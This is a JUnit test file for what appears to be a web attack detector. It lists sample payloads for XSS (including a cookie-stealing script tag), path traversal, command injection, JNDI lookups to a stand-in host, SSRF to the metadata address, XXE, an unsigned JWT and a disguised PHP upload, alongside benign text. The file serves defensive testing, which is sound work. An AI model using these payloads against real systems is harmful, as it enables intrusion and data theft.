package dev.fossawatch.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fossawatch.detect.finding.AttackClass;
import dev.fossawatch.detect.finding.Place;
import dev.fossawatch.detect.parts.SentRequest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Every class of attack in a query parameter, and the everyday text that must not be taken for one.
 */
class ProbesTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '\0',
      value = {
        "CROSS_SITE_SCRIPTING~<script>steal(document.cookie)</script>",
        "CROSS_SITE_SCRIPTING~<svg/onload=run()>",
        "CROSS_SITE_SCRIPTING~\" autofocus onfocus=go(1) x=\"",
        "CROSS_SITE_SCRIPTING~javascript:go(1)",
        "CROSS_SITE_SCRIPTING~<a href=\"jav&#x09;ascript:go(1)\">x</a>",
        "CROSS_SITE_SCRIPTING~'-alert(7)-'",
        "CROSS_SITE_SCRIPTING~<iframe src=//a.example>",
        "CROSS_SITE_SCRIPTING~<p style=\"width:expression(go(1))\">",
        "CROSS_SITE_SCRIPTING~top['al'+'ert'](7)",
        "PATH_TRAVERSAL~../../../../etc/hosts",
        "PATH_TRAVERSAL~..%252f..%252f..%252fconfig",
        "PATH_TRAVERSAL~..;/..;/manager",
        "PATH_TRAVERSAL~....//....//....//x",
        "PATH_TRAVERSAL~/etc/shadow",
        "PATH_TRAVERSAL~C:\\Windows\\win.ini",
        "PATH_TRAVERSAL~php://filter/read=x/resource=index",
        "PATH_TRAVERSAL~\\\\files.example\\share",
        "COMMAND_INJECTION~7; cat /etc/hostname",
        "COMMAND_INJECTION~7 | whoami",
        "COMMAND_INJECTION~7 && w\\ho\\ami",
        "COMMAND_INJECTION~$(uname -a)",
        "COMMAND_INJECTION~`id`",
        "COMMAND_INJECTION~7;c''at${IFS}/x",
        "COMMAND_INJECTION~() { :;}; /bin/ls",
        "COMMAND_INJECTION~7 & net user eve /add",
        "CODE_INJECTION~<?php echo 7; ?>",
        "CODE_INJECTION~<!--#include file=\"x\" -->",
        "CODE_INJECTION~__import__('os').getcwd()",
        "CODE_INJECTION~!!python/object/apply:os.getcwd []",
        "DESERIALIZATION~O:5:\"Shoes\":0:{}",
        "DESERIALIZATION~rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "TEMPLATE_INJECTION~{{7*6}}",
        "TEMPLATE_INJECTION~${T(java.lang.Runtime).getRuntime()}",
        "TEMPLATE_INJECTION~{{''.__class__.__mro__}}",
        "TEMPLATE_INJECTION~<%= 7*6 %>",
        "JNDI_INJECTION~${jndi:ldap://a.example/x}",
        "JNDI_INJECTION~${${lower:J}${::-n}di:rmi://a.example}",
        "XXE~<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>",
        "LDAP_INJECTION~eve)(|(uid=*",
        "LDAP_INJECTION~(&(cn=eve)(!(ou=x)))",
        "XPATH_INJECTION~x' or count(//user)=1 or '",
        "NOSQL_INJECTION~', $where: 'true",
        "NOSQL_INJECTION~';return true;var x='",
        "HEADER_INJECTION~7%0d%0aSet-Cookie: a=b",
        "SSRF~http://169.254.169.254/latest",
        "SSRF~http://0x7f.1/",
        "SSRF~gopher://a.example/_x",
      })
  void anAttackIsRefused(AttackClass attack, String value) {
    assertThat(Inspect.refuses(attack, value)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "O'Brien & Sons, \"The Old Mill\", 7/8 High Street",
        "select a plan from our union",
        "Please confirm (by Friday) that the alert (red) is off; echo this to all.",
        "Q&A; curl is a tool, cat is an animal | dog too",
        "1 < 2 and 3 > 2, so <b>bold</b> is fine",
        "I <3 you; see ../images or docs/readme.md",
        "5' 10\" tall & 70 kg (approx.)",
        "Oxygen & Sleep Associates",
        "{{ user.name }} paid ${amount} for #{item}",
        "Price: $5 (50% off!) -- today only #sale",
        "https://example.com/a?b=c&d=e#f",
        "http://localhost:8080/health",
        "if (a == b) { return c; } // done",
        "The `id` field and the `order by` clause",
        "C:\\Users\\me\\Pictures\\cat.png",
        "/var/www",
        "f(x) = (a)(b) = c",
        "line one\nline two: with a colon\nline three",
        "mailto:someone@example.com?subject=hi",
        "data: see the table; set: complete",
        "{\"name\":\"value\",\"list\":[1,2,3]}",
        "6f1ed002-ab5d-4f0e-9c6e-0a3f0b1c2d3e",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl",
        "日本語のテキスト、“quoted” – it’s fine",
        "JAVA: Springboot vs. Quarkus? 4 * 7 = 28",
        "tel:+49 (0)30 / 123-456",
      })
  void everydayTextIsLeftAlone(String value) {
    assertThat(Inspect.value(value).all())
        .filteredOn(f -> f.evidence().score() >= Settings.DEFAULT.threshold())
        .isEmpty();
  }

  @Test
  void namesAreLookedAt() {
    assertThat(Inspect.request(SentRequest.get("/x?user[$ne]=1")).all())
        .anyMatch(f -> f.attack() == AttackClass.NOSQL_INJECTION);
    assertThat(Inspect.request(SentRequest.get("/x?__proto__[a]=1")).all())
        .anyMatch(f -> f.attack() == AttackClass.CODE_INJECTION);
  }

  @Test
  void aScannerIsKnownByItsAgent() {
    SentRequest request =
        SentRequest.to("GET", "/").header("User-Agent", "nikto/2.5 (Evasions:None)").build();
    assertThat(Inspect.request(request).all())
        .singleElement()
        .satisfies(f -> assertThat(f.attack()).isEqualTo(AttackClass.SCANNER));
  }

  @Test
  void anUploadIsJudgedByNameAndContent() {
    String body =
        """
        --b\r
        Content-Disposition: form-data; name="photo"; filename="cat.php.jpg"\r
        \r
        GIF89a<?php run(); ?>\r
        --b--\r
        """;
    SentRequest request =
        SentRequest.to("POST", "/photos").body("multipart/form-data; boundary=b", body).build();
    assertThat(Inspect.request(request).all())
        .anyMatch(f -> f.place() == Place.FILE_NAME && f.attack() == AttackClass.MALICIOUS_UPLOAD)
        .anyMatch(f -> f.place() == Place.FILE && f.attack() == AttackClass.MALICIOUS_UPLOAD);
  }

  @Test
  void aTokenWithoutAlgorithmIsNone() {
    SentRequest request =
        SentRequest.to("GET", "/")
            .header("Authorization", "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiI0MiJ9.")
            .build();
    assertThat(Inspect.request(request).certain()).isTrue();
    assertThat(Inspect.request(request).all())
        .anyMatch(f -> f.attack() == AttackClass.AUTH_BYPASS && f.key().contains("jwt"));
  }

  @Test
  void aHeaderThatReplacesThePathIsRefused() {
    SentRequest request = SentRequest.to("GET", "/").header("X-Original-URL", "/admin").build();
    assertThat(Inspect.request(request).reached()).isTrue();
  }
}
